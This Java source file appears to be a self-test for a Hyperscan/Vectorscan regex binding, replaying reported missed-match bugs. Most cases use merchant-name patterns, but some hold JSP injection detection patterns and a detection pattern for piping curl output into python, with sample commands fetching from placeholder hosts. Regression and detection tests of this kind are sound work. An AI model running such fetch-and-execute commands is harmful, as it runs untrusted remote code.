package jp.genkan.literals;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.jspecify.annotations.Nullable;

/**
 * Expressions and texts from published reports of missed matches (hyperscan-java 231, vectorscan 358 and 382). Each text contains the first
 * expression of its case; releases of Vectorscan up to 5.4.12 do not find it. Takes some milliseconds.
 */
final class SelfTest {
    private static final List<String> CURL = List.of("curl.*\\|\\s*python");

    static final List<Case> CASES = List.of(
            new Case(
                    List.of(
                            "^.*TAPIOCA.*EX.*$",
                            "^.*BOBA.*GUY.*$",
                            "^.*PAYPAL.*JACQUES.*MARI.*$",
                            "^GUCCI FRANCE.*$",
                            "^PAYPAL \\*YVESSAINTL.*$",
                            "^DD.*FIREHO 855-973-1040$",
                            "^.*XING.*FU.*TAN.*$"),
                    NativeHyperscan.FLAG_CASELESS,
                    "TAPIOCA HOUSE TUXTLA GUTIER MEX"),
            new Case(
                    List.of(
                            "<%[\\s\\S]+%>",
                            "<[^<>]+:(include|forward|invoke|doBody|getProperty|setProperty|useBean|plugin|element"
                                    + "|attribute|body|fallback|params|param|output|root)",
                            "[\\$#]{[\\s\\S]+\\([\\s\\S]*\\)[\\s\\S]*}"),
                    0,
                    "<%out.print();int a%>"),
            new Case(CURL, NativeHyperscan.FLAG_DOTALL, "curl http://xxx:8000/ 2>&1 | python"),
            new Case(CURL, NativeHyperscan.FLAG_DOTALL, "curl http://xxxx:8000/ 2>&1 | python"),
            new Case(CURL, NativeHyperscan.FLAG_DOTALL, "curl http://vader:8080/ 2>&1 | python"));

    private SelfTest() {}

    /**
     * @param flags of every expression
     * @param text contains the first expression
     */
    record Case(List<String> expressions, int flags, String text) {}

    /** The first case that fails, and how; null when all pass. */
    static @Nullable String run(List<Case> cases) {
        LiteralHits hits = new LiteralHits();
        try (NativeScan scan = new NativeScan()) {
            for (Case one : cases) {
                NativeCompilation compilation =
                        new NativeCompilation(one.expressions().size());
                for (int id = 0; id < one.expressions().size(); id++) {
                    compilation.add(one.expressions().get(id), one.flags(), id);
                }
                byte[] text = one.text().getBytes(StandardCharsets.US_ASCII);
                hits.begin(one.expressions().size());
                scan.block(NativePart.of(compilation.compile(NativeHyperscan.MODE_BLOCK)), text, hits);
                if (!hits.contains(0)) {
                    return "self-test: misses \"" + one.expressions().getFirst() + "\" in \"" + one.text() + '"';
                }
            }
        } catch (CompileException failed) {
            return "self-test: " + failed.getMessage();
        }
        return null;
    }
}
